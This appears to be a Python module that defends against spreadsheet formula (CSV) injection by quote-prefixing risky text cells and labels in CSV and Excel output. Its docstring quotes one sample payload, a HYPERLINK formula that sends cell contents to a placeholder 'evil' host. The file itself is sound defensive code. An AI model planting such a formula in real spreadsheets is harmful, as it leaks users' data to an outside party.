"""Tables a spreadsheet opens without running anything (OWASP "CSV injection").

Planners open our CSV and Excel outputs in Excel or LibreOffice, and some of their text comes
from the files we were given: a queue called ``=HYPERLINK("http://evil/?"&A1,"Click")``, a
rejected row's original cells, a column header. A spreadsheet runs a cell starting with ``=``,
``+``, ``-`` or ``@`` (or a tab or carriage return before one) as a formula. So every table we
write goes through :func:`formula_safe`: such *text* cells, and text column names and index
labels, get a leading ``'`` (the OWASP advice), numbers stay numbers (``-5`` in a numeric
column, and a text cell that is just a number, which a spreadsheet reads as that number), and
the user is told once how many cells were changed.

Writers: :func:`write_csv` (a file or, without a target, the text for a download) and
:func:`write_excel`; both neutralise and count. A :func:`one_note` block gathers the counts
of the tables written inside it into one note (a command's output folder is one).
"""

from __future__ import annotations

import logging
import re
from collections.abc import Iterator
from contextlib import contextmanager
from contextvars import ContextVar
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pandas as pd

log = logging.getLogger("capplan")

# what a spreadsheet may run: = + - @ first, possibly after blanks, tabs or line breaks
FORMULA_START = re.compile(r"[ \t\r\n]*[=+\-@]|[\t\r]")
# a text cell that is only a number is read as that number, never run: left as it is
PLAIN_NUMBER = re.compile(r"\s*[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?%?\s*")
PREFIX = "'"


def is_formula(value: object) -> bool:
    """Whether a spreadsheet could run ``value`` as a formula (text only)."""
    return (
        isinstance(value, str)
        and FORMULA_START.match(value) is not None
        and PLAIN_NUMBER.fullmatch(value) is None
    )


def neutralise(value: object) -> object:
    """``value`` with a leading ``'`` if a spreadsheet could run it, else unchanged."""
    return PREFIX + value if is_formula(value) else value  # type: ignore[operator]


def _is_text(values: pd.Series | pd.Index) -> bool:
    dtype = values.dtype
    return (
        pd.api.types.is_object_dtype(dtype)
        or pd.api.types.is_string_dtype(dtype)
        or isinstance(dtype, pd.CategoricalDtype)
    )


def _safe_values(values: pd.Series) -> tuple[pd.Series, int]:
    """A text column with its formula cells neutralised, and how many there were."""
    if isinstance(values.dtype, pd.CategoricalDtype):
        categories = values.cat.categories
        risky = [c for c in categories if is_formula(c)]
        if not risky:
            return values, 0
        count = int(values.isin(risky).sum())
        fixed = values.cat.rename_categories([neutralise(c) for c in categories])
        return fixed, count
    try:
        distinct = pd.unique(values.dropna().to_numpy())
    except TypeError:  # unhashable cells (lists): looked at one by one
        distinct = values.dropna().to_numpy()
    risky = {v for v in distinct if is_formula(v)}
    if not risky:
        return values, 0
    hit = values.isin(list(risky))
    fixed = values.astype(object).where(~hit, values[hit].map(neutralise))
    if not pd.api.types.is_object_dtype(values.dtype):
        fixed = fixed.astype(values.dtype)
    return fixed, int(hit.sum())


def _safe_labels(labels: pd.Index) -> tuple[pd.Index, int]:
    """Column names or index labels neutralised (a header can come from a user's file)."""
    if isinstance(labels, pd.MultiIndex):
        tuples = [tuple(neutralise(part) for part in t) for t in labels]
        count = sum(is_formula(part) for t in labels for part in t)
        names = [neutralise(n) for n in labels.names]
        count += sum(is_formula(n) for n in labels.names)
        return (pd.MultiIndex.from_tuples(tuples, names=names) if count else labels), count
    count = sum(is_formula(v) for v in labels) if _is_text(labels) else 0
    count += is_formula(labels.name)
    if not count:
        return labels, 0
    fixed = pd.Index([neutralise(v) for v in labels], name=neutralise(labels.name), dtype=object)
    return fixed, count


def formula_safe(frame: pd.DataFrame | pd.Series, index: bool = True) -> tuple[pd.DataFrame, int]:
    """A copy of ``frame`` whose text cells, column names and (if ``index``) index labels
    cannot run as formulas, and how many were changed. ``frame`` itself is never changed;
    when nothing needs changing it is returned as it is (no copy of a large table)."""
    if isinstance(frame, pd.Series):
        frame = frame.to_frame()
    changed: dict[int, pd.Series] = {}
    count = 0
    for position in range(frame.shape[1]):
        column = frame.iloc[:, position]
        if _is_text(column):
            fixed, n = _safe_values(column)
            if n:
                changed[position], count = fixed, count + n
    columns, n_columns = _safe_labels(frame.columns)
    rows, n_rows = _safe_labels(frame.index) if index else (frame.index, 0)
    count += n_columns + n_rows
    if not count:
        return frame, 0
    safe = frame.copy()
    for position, fixed in changed.items():
        safe.isetitem(position, fixed.array)  # by position: names may repeat, the index too
    safe.columns, safe.index = columns, rows
    safe.attrs = dict(frame.attrs)
    return safe, count


@dataclass
class Tally:
    """Cells neutralised so far in a :func:`one_note` block; ``said`` set: nothing to say."""

    cells: int = 0
    where: list[str] = field(default_factory=list)
    said: bool = False


_tally: ContextVar[Tally | None] = ContextVar("formula_tally", default=None)


def _say(cells: int, where: list[str]) -> None:
    if cells:
        places = f" (in {', '.join(dict.fromkeys(where))})" if where else ""
        log.warning(
            "warning: %d text cell%s that a spreadsheet would run as formulas %s prefixed with '%s",
            cells,
            "" if cells == 1 else "s",
            "was" if cells == 1 else "were",
            places,
        )


def count_neutralised(cells: int, where: str | None = None) -> None:
    """Report ``cells`` neutralised in ``where``: now, or with the enclosing :func:`one_note`."""
    if not cells:
        return
    tally = _tally.get()
    if tally is None:
        _say(cells, [where] if where else [])
    else:
        tally.cells += cells
        tally.where += [where] if where else []


@contextmanager
def one_note() -> Iterator[Tally]:
    """Gather the neutralised cells of every table written inside into one note at the end
    (nested blocks leave it to the outermost; set ``said`` on the tally to say nothing)."""
    if _tally.get() is not None:
        yield Tally()
        return
    tally = Tally()
    token = _tally.set(tally)
    try:
        yield tally
    finally:
        _tally.reset(token)
    if not tally.said:
        _say(tally.cells, tally.where)


def _holds_cr(frame: pd.DataFrame, index: bool) -> bool:
    """Whether a text cell, column name or (written) index label holds a carriage return."""
    labels = [*frame.columns, frame.columns.name, *((*frame.index, frame.index.name) if index else ())]
    if any(isinstance(v, str) and "\r" in v for v in labels):
        return True
    for position in range(frame.shape[1]):
        column = frame.iloc[:, position]
        if _is_text(column):
            try:
                values = pd.unique(column.dropna().to_numpy())
            except TypeError:
                values = column.dropna().to_numpy()
            if any(isinstance(v, str) and "\r" in v for v in values):
                return True
    return False


def _name_of(target: object, name: str | None) -> str | None:
    if name:
        return name
    if isinstance(target, (str, Path)):
        base = Path(target).name
        if ".partial" in base:  # atomic_write's temporary ``.<name>.<token>.partial<suffix>``
            base = base.split(".partial")[0].lstrip(".").rsplit(".", 1)[0]
        return base or None
    return None


def write_csv(
    frame: pd.DataFrame | pd.Series, target: Any = None, *, name: str | None = None, **to_csv: Any
) -> str | None:
    """``frame.to_csv(target, **to_csv)`` with formula cells neutralised and counted; without
    ``target``, the CSV text (for a download or an artifact, ``name`` saying which)."""
    safe, cells = formula_safe(frame, index=to_csv.get("index", True))
    if "lineterminator" not in to_csv and _holds_cr(safe, to_csv.get("index", True)):
        # pandas ends lines with \n and then leaves a cell holding \r unquoted: a spreadsheet
        # starts a new row there, whose first cell (``=...``) it would run; with \r\n it is quoted
        to_csv["lineterminator"] = "\r\n"
    text = safe.to_csv(target, **to_csv)
    count_neutralised(cells, _name_of(target, name))
    return text


def write_excel(
    frame: pd.DataFrame | pd.Series, target: Any, *, name: str | None = None, **to_excel: Any
) -> None:
    """``frame.to_excel(target, **to_excel)`` with formula cells neutralised and counted
    (openpyxl itself stores a text starting with ``=`` as a formula)."""
    safe, cells = formula_safe(frame, index=to_excel.get("index", True))
    safe.to_excel(target, **to_excel)
    count_neutralised(cells, _name_of(target, name) or to_excel.get("sheet_name"))
